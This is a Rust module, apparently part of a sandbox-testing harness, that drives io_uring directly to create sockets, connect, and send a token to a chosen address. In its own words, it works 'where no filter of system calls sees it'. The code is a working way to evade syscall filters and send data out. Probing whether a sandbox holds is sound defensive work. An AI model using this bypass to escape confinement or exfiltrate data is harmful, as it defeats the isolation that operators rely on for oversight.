//! The same calls through io_uring: made by the kernel on behalf of a workload, in its thread or in one of its own.

use std::io::{Error, Result};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicU32, Ordering};

use nix::libc::{self, c_long};

use crate::report::{Args, Refused, Step, Told};
use crate::{sys, udp};

const SQPOLL: u32 = 2;
const ASYNC: u8 = 1 << 4;
const GET_EVENTS: u32 = 1;
const WAKEUP: u32 = 2;
const CONNECT: u8 = 16;
const SEND: u8 = 26;
const SOCKET: u8 = 45;
const SQES_AT: i64 = 0x1000_0000;

/// `io_uring_params` of the kernel.
#[repr(C)]
#[derive(Default)]
struct Params {
    sq_entries: u32,
    cq_entries: u32,
    flags: u32,
    sq_thread_cpu: u32,
    sq_thread_idle: u32,
    features: u32,
    wq_fd: u32,
    resv: [u32; 3],
    /// head, tail, ring_mask, ring_entries, flags, dropped, array, resv1, user_addr.
    sq: [u32; 10],
    /// head, tail, ring_mask, ring_entries, overflow, cqes, flags, resv1, user_addr.
    cq: [u32; 10],
}

/// `io_uring_sqe` as far as it is used here.
#[repr(C)]
#[derive(Default)]
struct Entry {
    opcode: u8,
    flags: u8,
    priority: u16,
    fd: i32,
    offset: u64,
    address: u64,
    length: u32,
    operation_flags: u32,
    user_data: u64,
    buffer: u16,
    personality: u16,
    address_length: u16,
    _pad: u16,
    _rest: [u64; 2],
}

/// A ring with its memory, which stays mapped: the process ends with the attack.
struct Ring {
    fd: OwnedFd,
    rings: *mut u8,
    entries: *mut Entry,
    params: Params,
}

/// `how=connect|send|sendto flags=|async|poll to= token=`.
pub(crate) fn attack(args: &Args) -> Told {
    run(args).into()
}

fn run(args: &Args) -> std::result::Result<Told, Refused> {
    let to = args.address("to")?;
    let address = sys::inet(to);
    let token = args.text("token").as_bytes();
    let poll = args.text("flags") == "poll";
    let flags = if args.text("flags") == "async" { ASYNC } else { 0 };
    let ring = Ring::new(if poll { SQPOLL } else { 0 }).step("io_uring_setup")?;
    if args.text("how") == "sendto" {
        let socket = udp::open(to)?;
        let entry = Entry {
            offset: address.as_ptr() as u64,
            address_length: u16::try_from(address.len()).unwrap_or_default(),
            ..of(SEND, flags, &socket, token)
        };
        ring.run(entry).step("io_uring send to an address")?;
        return Ok(Told::went("sent"));
    }
    let socket = match args.text("how") {
        "datagram" => udp::open(to)?,
        _ => crate::tcp::open(args, to, 0)?,
    };
    let entry = Entry {
        offset: address.len() as u64,
        length: 0,
        ..of(CONNECT, flags, &socket, &address)
    };
    ring.run(entry).step("io_uring connect")?;
    ring.run(of(SEND, flags, &socket, token)).step("io_uring send")?;
    Ok(Told::went("connected and sent"))
}

/// A socket of any family, made where no filter of system calls sees it.
pub(crate) fn socket(domain: i32, kind: i32, protocol: i32) -> Result<OwnedFd> {
    let ring = Ring::new(0)?;
    let entry = Entry {
        opcode: SOCKET,
        fd: domain,
        offset: u64::from(kind.cast_unsigned()),
        length: protocol.cast_unsigned(),
        ..Entry::default()
    };
    let fd = ring.run(entry)?;
    // SAFETY: the descriptor is new and nobody else's.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// `by=call|ring|compat`: a socket, and on which way it was asked for.
pub(crate) fn any_socket(
    args: &Args,
    domain: i32,
    kind: i32,
    protocol: i32,
) -> std::result::Result<OwnedFd, Refused> {
    match args.text("by") {
        "ring" => socket(domain, kind, protocol).step("socket by io_uring"),
        "compat" => sys::compat_socket(domain, kind, protocol).step("socket by the 32-bit call"),
        _ => sys::socket(domain, kind, protocol).step("socket"),
    }
}

fn of(opcode: u8, flags: u8, socket: &OwnedFd, bytes: &[u8]) -> Entry {
    Entry {
        opcode,
        flags,
        fd: socket.as_raw_fd(),
        address: bytes.as_ptr() as u64,
        length: u32::try_from(bytes.len()).unwrap_or_default(),
        ..Entry::default()
    }
}

fn check(result: c_long) -> Result<i32> {
    match i32::try_from(result) {
        Ok(number) if number >= 0 => Ok(number),
        _ => Err(Error::last_os_error()),
    }
}

// === impl Ring ===

impl Ring {
    fn new(flags: u32) -> Result<Self> {
        let mut params = Params {
            flags,
            sq_thread_idle: 1000,
            ..Params::default()
        };
        // SAFETY: the kernel reads and fills in `params`, which is laid out as it wants; the descriptor is new.
        let fd = unsafe {
            let fd = libc::syscall(libc::SYS_io_uring_setup, 8_u32, &raw mut params);
            OwnedFd::from_raw_fd(check(fd)?)
        };
        let rings = map(&fd, 0x2000, 0)?;
        let entries = map(&fd, 0x1000, SQES_AT)?.cast();
        Ok(Self {
            fd,
            rings,
            entries,
            params,
        })
    }

    fn counter(&self, at: u32) -> &AtomicU32 {
        // SAFETY: the kernel says where in the mapped memory its counters are; they are aligned and live as long.
        unsafe { &*self.rings.add(at as usize).cast::<AtomicU32>() }
    }

    /// One entry, and its result.
    fn run(&self, entry: Entry) -> Result<i32> {
        let tail = self.counter(self.params.sq[1]);
        let mask = self.counter(self.params.sq[2]).load(Ordering::Relaxed);
        let at = tail.load(Ordering::Relaxed);
        let slot = at & mask;
        // SAFETY: the slot is free, because one entry is under way at a time, and lies in the mapped memory.
        unsafe { self.entries.add(slot as usize).write(entry) };
        self.counter(self.params.sq[6] + 4 * slot)
            .store(slot, Ordering::Relaxed);
        tail.store(at.wrapping_add(1), Ordering::Release);
        let wakeup = self.params.flags & SQPOLL != 0;
        let flags = GET_EVENTS | if wakeup { WAKEUP } else { 0 };
        // SAFETY: no pointers.
        check(unsafe {
            libc::syscall(
                libc::SYS_io_uring_enter,
                self.fd.as_raw_fd(),
                1_u32,
                1_u32,
                flags,
                0_usize,
                0_usize,
            )
        })?;
        let head = self.counter(self.params.cq[0]);
        let at = head.load(Ordering::Relaxed);
        let mask = self.counter(self.params.cq[2]).load(Ordering::Relaxed);
        // A completion is its user data, 64 bits, and its result, 32 bits, in 16 bytes.
        let place = self.params.cq[5] + 16 * (at & mask) + 8;
        let result = self.counter(place).load(Ordering::Acquire).cast_signed();
        head.store(at.wrapping_add(1), Ordering::Release);
        if result < 0 {
            return Err(Error::from_raw_os_error(-result));
        }
        Ok(result)
    }
}

fn map(fd: &OwnedFd, size: usize, at: i64) -> Result<*mut u8> {
    // SAFETY: a new mapping of the ring's own memory.
    let memory = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            size,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_SHARED | libc::MAP_POPULATE,
            fd.as_raw_fd(),
            at,
        )
    };
    if memory == libc::MAP_FAILED {
        return Err(Error::last_os_error());
    }
    Ok(memory.cast())
}
